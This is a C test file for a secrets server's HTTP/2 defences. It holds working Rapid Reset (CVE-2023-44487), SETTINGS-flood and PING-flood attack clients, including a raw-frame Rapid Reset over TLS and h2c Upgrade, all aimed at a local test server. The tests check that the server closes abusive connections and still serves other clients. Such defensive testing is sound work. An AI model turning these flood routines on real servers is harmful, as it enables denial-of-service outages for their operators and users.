/*
 * test_h2abuse.c - HTTP/2 abuse on one connection: Rapid Reset (CVE-2023-44487), SETTINGS floods
 * and PING floods, against the real binary.
 *
 * The abuser is a libnghttp2 client session over a plain TCP socket to the h2c listener (prior
 * knowledge). In rapid-reset mode it submits valid, authenticated GETs of a real secret and
 * RST_STREAMs each one right after its HEADERS, as fast as it can, never waiting for an answer; in
 * the flood modes it submits SETTINGS or PING frames in a tight loop. It writes through a
 * non-blocking socket and reads (and discards) whatever the server answers. When the server closes
 * the connection the abuser notes how many abusive frames it had written, whether a GOAWAY came,
 * and reconnects, until the good client is done - so the measurement covers a sustained attack, not
 * only the first connection.
 *
 * The first abusive connection sends its preface in two pieces 50 ms apart (the server must still
 * find the frames behind it). The server runs one loop thread, so the abuser and the good client
 * share an event loop (the worst case); the abuser thread runs at nice 19 (SX_ABUSER_NICE), as it
 * would be on another machine, so that it does not take the good client's share of the two cores.
 * The good client makes GETs one at a time on its own connection; its p99 latency alone and under
 * each attack is measured in alternating rounds and printed with the ratio, never asserted (shared
 * 2-core machines are noisy). What is asserted: the server closes the first abusive connection of
 * every round, every answer the good client gets is a correct 200, and the server is alive
 * afterwards and exits cleanly. SX_HOSTILE_EXTRA adds [server] lines, e.g. "http2_max_resets = 0"
 * to watch the attacks without the defence.
 */
#include <errno.h>
#include <fcntl.h>
#include <nghttp2/nghttp2.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <openssl/ssl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "common/clock.h"
#include "harness.h"
#include "hostile.h"
#include "testutil.h"

#define SECRET_PATH   "/acme/web/envs/prod/secrets/s1"
#define EXPECT        "\"name\":\"s1\""
#define PREFACE_BYTES "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#define ROUNDS        5
#define ROUND_N       4000 /* requests of the good client per measurement */
#define OUTBUF_CAP    (1u << 20)
#define RING          (1u << 16)

typedef enum abuse_mode {
    ABUSE_RAPID_RESET,
    ABUSE_SETTINGS,
    ABUSE_PING,
} abuse_mode;

static const char *const mode_names[] = {"rapid reset", "SETTINGS flood", "PING flood"};

typedef struct abuser {
    int port;
    abuse_mode mode;
    const char *token;
    volatile bool stop;
    /* results, read after the thread is joined */
    unsigned conns;           /* connections opened */
    unsigned closed;          /* of which the server closed */
    uint64_t frames_total;    /* abusive frames written over all connections */
    uint64_t frames_first;    /* ... on the first connection before it was closed */
    bool first_closed;        /* the server closed the first connection */
    volatile bool first_done; /* the first connection is over */
    bool first_goaway;        /* and sent a GOAWAY first */
    uint32_t first_goaway_code;
    double first_close_ms; /* from its first abusive frame to the close */
} abuser;

/* One abusive connection. */
typedef struct aconn {
    abuser *a;
    int fd;
    nghttp2_session *session;
    uint8_t *out;
    size_t out_len, out_off;
    uint64_t serialized, flushed; /* bytes */
    uint64_t ends[RING];          /* end offsets of abusive frames serialized but not yet flushed */
    size_t ring_head, ring_tail;
    uint64_t frames; /* abusive frames flushed to the socket */
    bool goaway;
    uint32_t goaway_code;
    bool closed;
} aconn;

static ssize_t a_send(nghttp2_session *s, const uint8_t *data, size_t len, int flags, void *ud)
{
    (void)s;
    (void)flags;
    aconn *c = ud;
    if (c->out_len + len > OUTBUF_CAP)
        return NGHTTP2_ERR_WOULDBLOCK;
    memcpy(c->out + c->out_len, data, len);
    c->out_len += len;
    c->serialized += len;
    return (ssize_t)len;
}

static int a_frame_send(nghttp2_session *s, const nghttp2_frame *frame, void *ud)
{
    (void)s;
    aconn *c = ud;
    bool abusive =
        (c->a->mode == ABUSE_RAPID_RESET && frame->hd.type == NGHTTP2_RST_STREAM) ||
        (c->a->mode == ABUSE_SETTINGS && frame->hd.type == NGHTTP2_SETTINGS && !(frame->hd.flags & NGHTTP2_FLAG_ACK)) ||
        (c->a->mode == ABUSE_PING && frame->hd.type == NGHTTP2_PING && !(frame->hd.flags & NGHTTP2_FLAG_ACK));
    if (abusive && c->ring_head - c->ring_tail < RING)
        c->ends[c->ring_head++ % RING] = c->serialized;
    return 0;
}

static int a_frame_recv(nghttp2_session *s, const nghttp2_frame *frame, void *ud)
{
    (void)s;
    aconn *c = ud;
    if (frame->hd.type == NGHTTP2_GOAWAY) {
        c->goaway = true;
        c->goaway_code = frame->goaway.error_code;
    }
    return 0;
}

/* Write what is buffered; false once the connection is gone. */
static bool a_flush(aconn *c)
{
    while (c->out_off < c->out_len) {
        ssize_t n = send(c->fd, c->out + c->out_off, c->out_len - c->out_off, MSG_DONTWAIT | MSG_NOSIGNAL);
        if (n < 0 && errno == EINTR)
            continue;
        if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK))
            break;
        if (n <= 0)
            return false;
        c->out_off += (size_t)n;
        c->flushed += (uint64_t)n;
    }
    if (c->out_off == c->out_len)
        c->out_off = c->out_len = 0;
    else if (c->out_off > OUTBUF_CAP / 2) {
        memmove(c->out, c->out + c->out_off, c->out_len - c->out_off);
        c->out_len -= c->out_off;
        c->out_off = 0;
    }
    while (c->ring_tail < c->ring_head && c->ends[c->ring_tail % RING] <= c->flushed) {
        c->ring_tail++;
        c->frames++;
    }
    return true;
}

/* Read and discard what the server sent; false once the connection is gone. */
static bool a_read(aconn *c)
{
    uint8_t buf[65536];
    for (;;) {
        ssize_t n = recv(c->fd, buf, sizeof(buf), MSG_DONTWAIT);
        if (n < 0 && errno == EINTR)
            continue;
        if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK))
            return true;
        if (n <= 0)
            return false;
        nghttp2_session_mem_recv(c->session, buf, (size_t)n); /* errors do not matter to an abuser */
    }
}

/* Queue one batch of abusive frames. */
static void a_produce(aconn *c)
{
    abuser *a = c->a;
    char auth[512];
    snprintf(auth, sizeof(auth), "Bearer %s", a->token);
    nghttp2_nv nva[] = {
        {(uint8_t *)":method", (uint8_t *)"GET", 7, 3, NGHTTP2_NV_FLAG_NONE},
        {(uint8_t *)":scheme", (uint8_t *)"http", 7, 4, NGHTTP2_NV_FLAG_NONE},
        {(uint8_t *)":authority", (uint8_t *)"127.0.0.1", 10, 9, NGHTTP2_NV_FLAG_NONE},
        {(uint8_t *)":path", (uint8_t *)SECRET_PATH, 5, strlen(SECRET_PATH), NGHTTP2_NV_FLAG_NONE},
        {(uint8_t *)"authorization", (uint8_t *)auth, 13, strlen(auth), NGHTTP2_NV_FLAG_NONE},
    };
    for (int k = 0; k < 64; k++) {
        switch (a->mode) {
        case ABUSE_RAPID_RESET: {
            int32_t sid = nghttp2_submit_request(c->session, NULL, nva, sizeof(nva) / sizeof(nva[0]), NULL, NULL);
            if (sid < 0)
                return;
            nghttp2_session_send(c->session); /* the HEADERS go out before the RST_STREAM is queued */
            nghttp2_submit_rst_stream(c->session, NGHTTP2_FLAG_NONE, sid, NGHTTP2_CANCEL);
            break;
        }
        case ABUSE_SETTINGS: {
            nghttp2_settings_entry iv = {NGHTTP2_SETTINGS_INITIAL_WINDOW_SIZE, 65535u + (unsigned)(k & 1)};
            if (nghttp2_submit_settings(c->session, NGHTTP2_FLAG_NONE, &iv, 1) != 0)
                return;
            break;
        }
        case ABUSE_PING: {
            uint8_t data[8] = {(uint8_t)k};
            if (nghttp2_submit_ping(c->session, NGHTTP2_FLAG_NONE, data) != 0)
                return;
            break;
        }
        }
    }
    nghttp2_session_send(c->session);
}

/* One connection, abused until the server closes it or a->stop. Returns true when the server closed it. */
static bool abuse_one(abuser *a, bool first)
{
    aconn *c = calloc(1, sizeof(*c));
    if (!c)
        return false;
    c->a = a;
    c->out = malloc(OUTBUF_CAP);
    c->fd = sx_test_tcp_connect(a->port, 0);
    nghttp2_session_callbacks *cbs = NULL;
    nghttp2_option *opt = NULL;
    bool closed_by_server = false;
    if (!c->out || c->fd < 0 || nghttp2_session_callbacks_new(&cbs) != 0 || nghttp2_option_new(&opt) != 0)
        goto out;
    fcntl(c->fd, F_SETFL, fcntl(c->fd, F_GETFL) | O_NONBLOCK);
    nghttp2_session_callbacks_set_send_callback(cbs, a_send);
    nghttp2_session_callbacks_set_on_frame_send_callback(cbs, a_frame_send);
    nghttp2_session_callbacks_set_on_frame_recv_callback(cbs, a_frame_recv);
    /* An abuser does not protect itself: no limits on what it queues or on what the server sends. */
    nghttp2_option_set_max_outbound_ack(opt, 1u << 30);
    nghttp2_option_set_max_settings(opt, 1u << 30);
    nghttp2_option_set_peer_max_concurrent_streams(opt, 1u << 30);
    if (nghttp2_session_client_new2(&c->session, cbs, c, opt) != 0)
        goto out;
    a->conns++;
    nghttp2_submit_settings(c->session, NGHTTP2_FLAG_NONE, NULL, 0);
    nghttp2_session_send(c->session);
    if (first && c->out_len > 10) {
        /* The first connection's preface arrives in two pieces, as over a slow network: the
         * server must still find the frames that follow it. */
        if (send(c->fd, c->out, 10, MSG_NOSIGNAL) != 10)
            goto out;
        c->out_off = 10;
        c->flushed = 10;
        usleep(50000);
    }
    uint64_t t0 = (sx_clock_mono_ns() / 1000u);
    while (!a->stop) {
        if (c->out_len - c->out_off < 65536)
            a_produce(c);
        if (!a_flush(c) || !a_read(c)) {
            closed_by_server = true;
            break;
        }
        if (c->out_len - c->out_off >= 65536) {
            struct pollfd pfd = {.fd = c->fd, .events = POLLIN | POLLOUT};
            poll(&pfd, 1, 10);
        }
    }
    if (closed_by_server) {
        a->closed++;
        if (first) {
            a->first_closed = true;
            a->first_goaway = c->goaway;
            a->first_goaway_code = c->goaway_code;
            a->first_close_ms = (double)((sx_clock_mono_ns() / 1000u) - t0) / 1000.0;
        }
    }
    if (first) {
        a->frames_first = c->frames;
        a->first_done = true;
    }
    a->frames_total += c->frames;
out:
    if (c->session)
        nghttp2_session_del(c->session);
    nghttp2_session_callbacks_del(cbs);
    nghttp2_option_del(opt);
    if (c->fd >= 0)
        close(c->fd);
    free(c->out);
    free(c);
    return closed_by_server;
}

static void *abuser_main(void *arg)
{
    abuser *a = arg;
    /* The abuser would run on another machine: here it shares two cores with the server and the
     * good client, and at the lowest priority it takes only the CPU time they leave. */
    const char *nice = getenv("SX_ABUSER_NICE"); /* e.g. 0 to let it compete on equal terms */
    if (setpriority(PRIO_PROCESS, (id_t)syscall(SYS_gettid), nice ? atoi(nice) : 19) != 0) {
        /* not fatal: the figures are noisier */
    }
    bool first = true;
    while (!a->stop) {
        abuse_one(a, first);
        first = false;
    }
    return NULL;
}

/* ---- the test ---- */

static sx_srv srv;
static char *token;

static bool setup(void)
{
    char extra[1024] = "";
    const char *more = getenv("SX_HOSTILE_EXTRA"); /* e.g. "http2_max_resets = 0\n" to watch without limits */
    snprintf(extra, sizeof(extra), "%s\n", more ? more : "");
    return sx_hostile_server_up(&srv, 1, extra, &token);
}

static void teardown(void)
{
    CHECK_INT(sx_hostile_server_down(&srv, &token), 0); /* a clean exit: no sanitizer report, drained */
}

/* The server's own account of why it closed connections: the number in its first "closing HTTP/2
 * connection" log line, or -1. */
static long server_count(const char *what)
{
    char *log = sx_test_read_file(srv.stderr_path, NULL);
    long n = -1;
    const char *p = log ? strstr(log, "closing HTTP/2 connection") : NULL;
    if (p && (p = strstr(p, "after ")) && strstr(p, what))
        n = strtol(p + 6, NULL, 10);
    free(log);
    return n;
}

/* Rounds of: the good client alone, then beside the abuser (started afresh each round). The
 * ratio reported is the median over the rounds of (p99 under attack / p99 alone), which a burst of
 * noise from elsewhere on the machine moves less than one long run would. */
static void run_attack(abuse_mode mode)
{
    double base[ROUNDS], under[ROUNDS], ratio[ROUNDS], p50 = 0;
    size_t bad = 0;
    abuser first = {0};
    unsigned conns = 0, closed = 0;
    uint64_t frames = 0;
    for (int r = 0; r < ROUNDS; r++) {
        base[r] = sx_good_batch(srv.port, SECRET_PATH, token, EXPECT, ROUND_N, NULL, &bad);
        abuser a = {.port = srv.port, .mode = mode, .token = token};
        pthread_t tid;
        REQUIRE(pthread_create(&tid, NULL, abuser_main, &a) == 0);
        usleep(20000); /* the abuser is connected and flooding */
        under[r] = sx_good_batch(srv.port, SECRET_PATH, token, EXPECT, ROUND_N, &p50, &bad);
        /* A busy machine may not have let it get that far yet (without the defence, nothing will). */
        for (int w = 0; w < (getenv("SX_HOSTILE_EXTRA") ? 0 : 20000) && !a.first_done; w++)
            usleep(1000);
        a.stop = true;
        pthread_join(tid, NULL);
        ratio[r] = base[r] > 0 ? under[r] / base[r] : 0;
        if (r == 0)
            first = a;
        conns += a.conns;
        closed += a.closed;
        frames += a.frames_total;
        CHECK(a.first_closed); /* every round's first connection, too */
    }
    CHECK_INT(bad, 0);
    CHECK(first.first_closed);
    printf("%-15s good client p99 alone / under attack, per round (us):", mode_names[mode]);
    for (int r = 0; r < ROUNDS; r++)
        printf(" %.0f/%.0f", base[r], under[r]);
    double mb = sx_median(base, ROUNDS), mu = sx_median(under, ROUNDS);
    printf("\n%-15s median p99 alone %.0f us, under attack %.0f us; median ratio %.2f x (%d rounds of %d requests, "
           "%zu wrong answers)\n",
           mode_names[mode], mb, mu, sx_median(ratio, ROUNDS), ROUNDS, ROUND_N, bad);
    printf("%-15s abusive connections %u, closed by the server %u; %llu abusive frames written in all\n",
           mode_names[mode], conns, closed, (unsigned long long)frames);
    printf("%-15s first connection: %s after %llu abusive frames written (%.1f ms)%s\n", mode_names[mode],
           first.first_closed ? "closed by the server" : "NOT closed", (unsigned long long)first.frames_first,
           first.first_close_ms,
           first.first_goaway
               ? (first.first_goaway_code == NGHTTP2_ENHANCE_YOUR_CALM ? ", GOAWAY ENHANCE_YOUR_CALM first"
                                                                       : ", GOAWAY first")
               : ", no GOAWAY seen");
    fflush(stdout);
    /* still serving */
    sx_resp resp;
    CHECK(sx_srv_request(&srv, SX_H2C, "GET", "/healthz", NULL, NULL, 0, &resp) == 0 && resp.status == 200);
    sx_resp_free(&resp);
}

/* The server's metric of connections closed for abuse with this reason (-1: not found). */
static long abuse_metric(const char *reason)
{
    sx_resp r;
    long n = -1;
    if (sx_srv_request(&srv, SX_ADMIN, "GET", "/metrics", NULL, NULL, 0, &r) != 0)
        return -1;
    char key[128];
    snprintf(key, sizeof(key), "secretsd_http2_abusive_connections_closed_total{reason=\"%s\"} ", reason);
    const char *p = r.status == 200 && r.body ? strstr(r.body, key) : NULL;
    if (p)
        n = strtol(p + strlen(key), NULL, 10);
    sx_resp_free(&r);
    return n;
}

static void rapid_reset_closes_the_connection_and_spares_other_clients(void)
{
    REQUIRE(setup());
    run_attack(ABUSE_RAPID_RESET);
    long n = server_count("stream resets");
    printf("rapid reset     the server counted %ld resets on the first connection it closed\n", n);
    CHECK(n > 0);
    long closed = abuse_metric("resets");
    printf("rapid reset     metric: %ld connections closed for resets\n", closed);
    CHECK(closed > 0);
    CHECK_INT(abuse_metric("control_frames"), 0);
    teardown();
}

static void settings_and_ping_floods_close_the_connection_and_spare_other_clients(void)
{
    REQUIRE(setup());
    run_attack(ABUSE_SETTINGS);
    run_attack(ABUSE_PING);
    long n = server_count("control frames");
    printf("control floods  the server counted %ld control frames on the first connection it closed\n", n);
    CHECK(n > 0);
    CHECK(abuse_metric("control_frames") > 0);
    teardown();
}

/* ---- the other ways onto HTTP/2: TLS with ALPN h2, and Upgrade: h2c ---- */

/* Raw frames, HPACK literals without indexing (every name and value under 127 bytes). */
static size_t put_frame(uint8_t *b, uint8_t type, uint8_t flags, uint32_t sid, const uint8_t *payload, size_t len)
{
    uint8_t h[9] = {(uint8_t)(len >> 16), (uint8_t)(len >> 8),  (uint8_t)len,        type,        flags,
                    (uint8_t)(sid >> 24), (uint8_t)(sid >> 16), (uint8_t)(sid >> 8), (uint8_t)sid};
    memcpy(b, h, 9);
    if (len)
        memcpy(b + 9, payload, len);
    return 9 + len;
}

static size_t put_literal(uint8_t *b, const char *name, const char *value)
{
    size_t nl = strlen(name), vl = strlen(value);
    b[0] = 0;
    b[1] = (uint8_t)nl;
    memcpy(b + 2, name, nl);
    b[2 + nl] = (uint8_t)vl;
    memcpy(b + 3 + nl, value, vl);
    return 3 + nl + vl;
}

typedef struct raw_conn {
    int fd;
    SSL *ssl;
} raw_conn;

static bool raw_write(raw_conn *c, const void *p, size_t n)
{
    if (c->ssl)
        return SSL_write(c->ssl, p, (int)n) == (int)n;
    for (size_t off = 0; off < n;) {
        ssize_t w = send(c->fd, (const char *)p + off, n - off, MSG_NOSIGNAL);
        if (w <= 0)
            return false;
        off += (size_t)w;
    }
    return true;
}

/* Rapid reset over TLS (ALPN h2) or over h2c reached by Upgrade. Returns the HEADERS + RST_STREAM
 * pairs written before the server closed the connection, or -1 when it never did (200000 pairs). */
static long raw_rapid_reset(bool tls)
{
    raw_conn c = {sx_test_tcp_connect(tls ? srv.tls_port : srv.port, 0), NULL};
    SSL_CTX *ctx = NULL;
    long sent = -1;
    if (c.fd < 0)
        return -1;
    if (tls) {
        static const unsigned char alpn[] = "\x02h2";
        const unsigned char *sel = NULL;
        unsigned sel_len = 0;
        ctx = SSL_CTX_new(TLS_client_method());
        c.ssl = ctx ? SSL_new(ctx) : NULL;
        if (!c.ssl || SSL_set_alpn_protos(c.ssl, alpn, sizeof(alpn) - 1) != 0 || !SSL_set_fd(c.ssl, c.fd) ||
            SSL_connect(c.ssl) != 1)
            goto out;
        SSL_get0_alpn_selected(c.ssl, &sel, &sel_len);
        if (sel_len != 2 || memcmp(sel, "h2", 2) != 0)
            goto out;
    } else {
        static const char up[] = "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade, HTTP2-Settings\r\n"
                                 "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n";
        char buf[1024] = "";
        size_t got = 0;
        if (!raw_write(&c, up, sizeof(up) - 1))
            goto out;
        while (got < sizeof(buf) - 1 && !strstr(buf, "\r\n\r\n")) {
            ssize_t n = recv(c.fd, buf + got, sizeof(buf) - 1 - got, 0);
            if (n <= 0)
                goto out;
            got += (size_t)n;
            buf[got] = '\0';
        }
        if (strncmp(buf, "HTTP/1.1 101 ", 13) != 0)
            goto out;
    }
    uint8_t block[512], batch[64 * 600];
    char auth[256];
    snprintf(auth, sizeof(auth), "Bearer %s", token);
    size_t bl = put_literal(block, ":method", "GET");
    bl += put_literal(block + bl, ":scheme", tls ? "https" : "http");
    bl += put_literal(block + bl, ":authority", "127.0.0.1");
    bl += put_literal(block + bl, ":path", SECRET_PATH);
    bl += put_literal(block + bl, "authorization", auth);
    size_t n = sizeof(PREFACE_BYTES) - 1;
    memcpy(batch, PREFACE_BYTES, n);
    n += put_frame(batch + n, NGHTTP2_SETTINGS, 0, 0, NULL, 0);
    if (!raw_write(&c, batch, n))
        goto out;
    static const uint8_t cancel[4] = {0, 0, 0, NGHTTP2_CANCEL};
    uint32_t sid = tls ? 1 : 3; /* the upgraded request was stream 1 */
    for (long pairs = 0; pairs < 200000; pairs += 64) {
        n = 0;
        for (int k = 0; k < 64; k++, sid += 2) {
            n += put_frame(batch + n, NGHTTP2_HEADERS, NGHTTP2_FLAG_END_STREAM | NGHTTP2_FLAG_END_HEADERS, sid, block,
                           bl);
            n += put_frame(batch + n, NGHTTP2_RST_STREAM, 0, sid, cancel, 4);
        }
        if (!raw_write(&c, batch, n)) {
            sent = pairs;
            break;
        }
    }
out:
    if (c.ssl)
        SSL_free(c.ssl);
    SSL_CTX_free(ctx);
    close(c.fd);
    return sent;
}

static int count_closings(void)
{
    char *log = sx_test_read_file(srv.stderr_path, NULL);
    int n = 0;
    for (const char *p = log; p && (p = strstr(p, "closing HTTP/2 connection")) != NULL; p++)
        n += strstr(p, "stream resets") != NULL && strstr(p, "stream resets") < strchr(p, '\n');
    free(log);
    return n;
}

static void rapid_reset_is_caught_over_tls_and_upgrade_too(void)
{
    REQUIRE(setup());
    for (int tls = 1; tls >= 0; tls--) {
        int before = count_closings();
        long sent = raw_rapid_reset(tls);
        usleep(100000); /* the log line */
        int after = count_closings();
        printf("rapid reset over %s: the server closed the connection after %ld HEADERS + RST_STREAM pairs were "
               "written (its log: %d closing line)\n",
               tls ? "TLS (ALPN h2)" : "h2c reached by Upgrade", sent, after - before);
        CHECK(sent >= 0);
        CHECK_INT(after - before, 1);
    }
    sx_resp r;
    CHECK(sx_srv_request(&srv, SX_H2TLS, "GET", "/healthz", NULL, NULL, 0, &r) == 0 && r.status == 200);
    sx_resp_free(&r);
    teardown();
}

int main(int argc, char **argv)
{
    signal(SIGPIPE, SIG_IGN);
    static const sx_test tests[] = {
        {"rapid_reset_closes_the_connection_and_spares_other_clients",
         rapid_reset_closes_the_connection_and_spares_other_clients},
        {"settings_and_ping_floods_close_the_connection_and_spare_other_clients",
         settings_and_ping_floods_close_the_connection_and_spare_other_clients},
        {"rapid_reset_is_caught_over_tls_and_upgrade_too", rapid_reset_is_caught_over_tls_and_upgrade_too},
    };
    return sx_test_main(tests, sizeof(tests) / sizeof(tests[0]), argc, argv);
}
